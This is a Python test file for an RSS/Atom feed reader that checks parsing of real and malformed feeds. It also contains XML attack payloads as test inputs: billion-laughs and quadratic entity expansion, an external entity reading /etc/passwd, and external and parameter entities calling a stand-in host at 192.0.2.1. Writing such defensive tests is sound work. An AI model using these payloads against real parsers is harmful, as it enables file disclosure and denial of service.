"""The `feeds` reader on the hand-written sample, real captured feeds, malformed feeds and XML attacks."""

from __future__ import annotations

import gzip
import socket
import time
from collections import Counter
from datetime import datetime
from pathlib import Path

import pytest

from corpora import FeedReader

# Items per file in shared/data/feeds/real (from its SOURCES.md): every one must come out.
REAL_ITEMS = {
    "guardian.rss": 55, "heise.atom": 15, "encoding.rss": 40, "rss-1.rss": 69, "reddit.rss": 24,
    "craigslist.rss": 25, "content-encoded.rss": 7, "feedburner.atom": 25, "many-links.rss": 25,
    "wapowellness.xml": 29, "tpm.atom": 20, "intertwingly.atom": 20, "iconv.xml": 10,
    "category-feed.xml": 1, "rss2sample.xml": 4, "CRE.xml": 30, "RSSWithComments.xml": 30,
    "google_alerts_atom.xml": 20, "FeedBurnerXHTML.xml": 10, "HuffPostCanada.xml": 2, "pet_atom.xml": 10,
}  # fmt: skip

# shared/data/feeds/malformed: (documents, rejected) per file. Items feedparser recovers
# become documents; items with neither title nor text, and files with no items, are rejected.
MALFORMED = {
    "AtomEscapedHTMLInPreTag.xml": (1, 0),
    "InvalidDateFormat.xml": (2, 0),
    "TechCrunch.xml": (20, 0),
    "bozo_bogus_encoding.xml": (0, 1),
    "bozo_double-encoded-html.xml": (1, 0),
    "bozo_invalid-bytes-with-bom.xml": (0, 1),
    "guardian_truncated.rss": (22, 0),
    "http_high_bit_date.xml": (0, 1),
    "illegally-nested.xml": (10, 10),
    "incomplete-fields.atom": (0, 1),
    "invalid-characters-gzipped.xml": (25, 0),
    "koi8r.xml": (1, 0),
    "large_atom_feed_that_needs_css_sanitisation.xml": (15, 0),
    "missing-fields.atom": (0, 1),
    "notafeed.html": (0, 1),
    "rss_empty_document.xml": (0, 1),
    "rss_incomplete_cdata.xml": (0, 1),
    "rss_item_link_corrupted_ampersands.xml": (0, 1),
    "saxerror.xml": (3, 0),
    "undeclared_namespace.xml": (0, 1),
    "unrecognized.rss": (0, 1),
    "uolNoticias.rss": (15, 0),
    "utf-16le-bom.xml": (0, 1),
}

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10))
    + ']>\n<rss version="2.0"><channel><title>t</title><item><title>&lol9;</title></item></channel></rss>\n'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    '<rss version="2.0"><channel><title>t</title><item><title>&secret;</title></item></channel></rss>\n'
)
EXTERNAL_URL_ENTITY = EXTERNAL_ENTITY.replace("file:///etc/passwd", "http://192.0.2.1/steal")
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n'
    '<rss version="2.0"><channel><title>t</title></channel></rss>\n'
)
QUADRATIC_BLOWUP = (
    f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY big "{"x" * 50_000}">]>\n'
    f'<rss version="2.0"><channel><item><title>{"&big;" * 20_000}</title></item></channel></rss>\n'
)


@pytest.fixture
def no_network(monkeypatch):
    """Make any attempt to open a network connection fail loudly."""

    def refuse(*args, **kwargs):
        raise AssertionError(f"the reader tried to open a network connection: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def by_file(items, split):
    """(documents, rejected) counts per file name."""
    docs, rejected = split(items)
    counts: dict[str, list[int]] = {}
    for doc in docs:
        counts.setdefault(doc.meta["source"].rsplit("/", 1)[-1], [0, 0])[0] += 1
    for rej in rejected:
        counts.setdefault(rej.source.rsplit("/", 1)[-1], [0, 0])[1] += 1
    return {name: tuple(pair) for name, pair in counts.items()}, docs, rejected


def test_sample_feed(samples, split):
    docs, rejected = split(FeedReader(path=str(samples / "sample_feed.xml")).read())

    assert rejected == []
    assert [d.id for d in docs][:3] == [
        "millbrook-gazette-0001",  # the GUID
        "https://gazette.example.org/2024/03/cycle-lane",  # a permalink GUID
        "https://gazette.example.org/2024/03/bread-prize",  # no GUID: the link
    ]
    assert len(docs[3].id) == 16  # neither: a content hash
    library, cycle, bakery, weather = docs
    assert library.text == (
        "Millbrook library reopens after flood repairs\n\n"
        "The town library opened its doors on Monday, six months after the river flooded its ground floor.\n\n"
        "Volunteers restored more than 4,000 books, and the children's corner now sits upstairs."
    )
    assert "trackReader" not in cycle.text and cycle.text.endswith("open to buses throughout.")
    assert bakery.text.endswith(
        "Hollis & Daughters took first place for their rye sourdough at the county show."
    )
    assert weather.text == "Weather: a dry, bright week ahead, with frost likely on Thursday night."
    assert library.meta == {
        "source": (samples / "sample_feed.xml").as_posix(),
        "item": 1,
        "guid": "millbrook-gazette-0001",
        "url": "https://gazette.example.org/2024/03/library-reopens",
        "title": "Millbrook library reopens after flood repairs",
        "published": "2024-03-04T09:30:00+00:00",
        "published_raw": "Mon, 04 Mar 2024 09:30:00 +0000",
        "author": "Ada Fenwick",
        "categories": ["Community", "Libraries"],
        "feed_title": "Millbrook Gazette",
        "feed_url": "https://gazette.example.org/",
        "language": "en",  # the feed's <language>en-gb</language>
    }
    assert cycle.meta["published"] == "2024-03-05T16:05:00+00:00"  # converted to UTC


def test_every_real_feed_item_comes_out(shared_feeds: Path, split, no_network):
    reader = FeedReader(path=str(shared_feeds / "real"))
    counts, docs, rejected = by_file(reader.read(), split)

    assert rejected == []
    assert counts == {name: (n, 0) for name, n in REAL_ITEMS.items()}
    assert all(d.text.strip() for d in docs)
    per_file_ids = Counter((d.meta["source"], d.id) for d in docs)
    assert max(per_file_ids.values()) == 1
    dated = [d.meta["published"] for d in docs if d.meta["published"]]
    assert len(dated) > 400 and all(
        datetime.fromisoformat(p).utcoffset().total_seconds() == 0 for p in dated
    )
    assert sum(1 for d in docs if d.meta["categories"]) > 200
    assert all("<p>" not in d.text and "<a " not in d.text for d in docs)
    assert [(d.id, d.text) for d in reader.read()] == [(d.id, d.text) for d in docs]


def test_real_feed_details(shared_feeds: Path, split):
    iconv, *_ = split(FeedReader(path=str(shared_feeds / "real" / "iconv.xml")).read())[0]
    assert iconv.text.startswith("В Бузулуке")  # windows-1251 decoded
    sample = split(FeedReader(path=str(shared_feeds / "real" / "rss2sample.xml")).read())[0]
    untitled = [d for d in sample if d.meta["title"] is None]
    assert len(untitled) == 1 and untitled[0].text  # text without a title is still a document
    rdf = split(FeedReader(path=str(shared_feeds / "real" / "rss-1.rss")).read())[0]
    assert rdf[0].text == rdf[0].meta["title"]  # RSS 1.0 items with a title only


def test_malformed_feeds_recover_good_items_and_reject_the_rest(
    shared_feeds: Path, split, no_network
):
    started = time.perf_counter()
    counts, docs, rejected = by_file(FeedReader(path=f"{shared_feeds}/malformed/*").read(), split)

    assert counts == MALFORMED
    assert len(docs) == sum(d for d, _ in MALFORMED.values())
    assert all(r.reason for r in rejected)
    items = [r for r in rejected if r.position is not None]
    assert {r.reason for r in items} == {"item has neither a title nor any text"}
    assert [r.position for r in items if r.source.endswith("illegally-nested.xml")] == list(
        range(2, 21, 2)
    )
    files = {r.source.rsplit("/", 1)[-1]: r.reason for r in rejected if r.position is None}
    assert files["notafeed.html"] == "not a readable feed: <unknown>:7:3: mismatched tag"
    assert files["http_high_bit_date.xml"] == "the feed has no items"
    assert time.perf_counter() - started < 10


def test_xml_attacks_are_rejected_quickly_and_nothing_is_fetched(tmp_path, split, no_network):
    attacks = {
        "billion_laughs.xml": BILLION_LAUGHS,
        "prefixed_billion_laughs.xml": "<!-- not well-formed: comment before the declaration -->\n"
        + BILLION_LAUGHS,
        "external_file.xml": EXTERNAL_ENTITY,
        "external_url.xml": EXTERNAL_URL_ENTITY,
        "parameter_entity.xml": PARAMETER_ENTITY,
        "quadratic.xml": QUADRATIC_BLOWUP,
    }
    for name, text in attacks.items():
        (tmp_path / name).write_text(text)
    (tmp_path / "utf16_billion_laughs.xml").write_bytes(
        BILLION_LAUGHS.replace('"1.0"?>', '"1.0" encoding="utf-16"?>', 1).encode("utf-16")
    )

    started = time.perf_counter()
    docs, rejected = split(FeedReader(path=str(tmp_path)).read())

    assert time.perf_counter() - started < 2
    assert docs == []
    reasons = {r.source.rsplit("/", 1)[-1]: r.reason for r in rejected}
    assert set(reasons) == {*attacks, "utf16_billion_laughs.xml"}
    assert all(reason.startswith("unsafe XML refused") for reason in reasons.values())
    assert "billion laughs" in reasons["billion_laughs.xml"]
    assert "external entity 'secret' (file:///etc/passwd)" in reasons["external_file.xml"]
    assert "root:" not in str(rejected)


def test_external_dtd_reference_is_allowed_but_never_fetched(tmp_path, split, no_network):
    (tmp_path / "rss091.xml").write_text(
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        '<rss version="0.91"><channel><title>Old feed</title><link>http://old.example/</link>'
        "<item><title>Still here</title><link>http://old.example/1</link>"
        "<description>RSS 0.91 lives on.</description></item></channel></rss>\n"
    )

    docs, rejected = split(FeedReader(path=str(tmp_path)).read())

    assert rejected == []
    assert [(d.id, d.text) for d in docs] == [
        ("http://old.example/1", "Still here\n\nRSS 0.91 lives on.")
    ]


def test_relative_links_are_not_resolved_against_anything(tmp_path, split, no_network):
    (tmp_path / "rel.xml").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Rel</title>'
        "<item><title>Relative</title><link>/news/1</link>"
        '<description>&lt;a href="/more"&gt;More&lt;/a&gt; here.</description></item></channel></rss>'
    )

    (doc,), _ = split(FeedReader(path=str(tmp_path)).read())

    assert doc.meta["url"] == "/news/1"
    assert doc.text == "Relative\n\nMore here."


def test_active_content_in_items_is_dropped_and_nothing_is_fetched(tmp_path, split, no_network):
    (tmp_path / "active.xml").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>A</title><item><title>Active</title>'
        "<description>&lt;script&gt;document.write('stolen')&lt;/script&gt;"
        "&lt;style&gt;p {color: red}&lt;/style&gt;"
        '&lt;p onclick="steal()"&gt;The &lt;b&gt;story&lt;/b&gt; itself.&lt;/p&gt;'
        '&lt;iframe src="http://tracker.example/"&gt;frame text&lt;/iframe&gt;'
        '&lt;img src="http://tracker.example/pixel.gif"&gt;'
        "</description></item></channel></rss>"
    )

    (doc,), _ = split(FeedReader(path=str(tmp_path)).read())

    assert doc.text == "Active\n\nThe story itself."


def test_size_cap_and_gzip_content(tmp_path, split, samples):
    feed = (samples / "sample_feed.xml").read_bytes()
    (tmp_path / "plain.xml").write_bytes(feed)
    (tmp_path / "served_gzipped.xml").write_bytes(gzip.compress(feed))
    (tmp_path / "zeros.xml.gz").write_bytes(gzip.compress(b" " * 5_000_000))

    docs, rejected = split(FeedReader(path=str(tmp_path), max_file_bytes=len(feed)).read())
    assert len(docs) == 8
    assert [(r.source.rsplit("/", 1)[-1], r.reason) for r in rejected] == [
        ("zeros.xml.gz", f"file is larger than max_file_bytes={len(feed)} bytes")
    ]

    docs, rejected = split(FeedReader(path=str(tmp_path / "plain.xml"), max_file_bytes=1000).read())
    assert docs == [] and "max_file_bytes=1000" in rejected[0].reason


def test_duplicate_guid_in_one_file_is_rejected(tmp_path, split):
    item = "<item><guid>same-id</guid><title>{}</title></item>"
    (tmp_path / "dup.xml").write_text(
        f'<rss version="2.0"><channel><title>D</title>{item.format("First")}{item.format("Again")}</channel></rss>'
    )

    docs, rejected = split(FeedReader(path=str(tmp_path)).read())

    assert [d.text for d in docs] == ["First"]
    assert [(r.position, r.id) for r in rejected] == [(2, "same-id")]
    assert "item 1" in rejected[0].reason
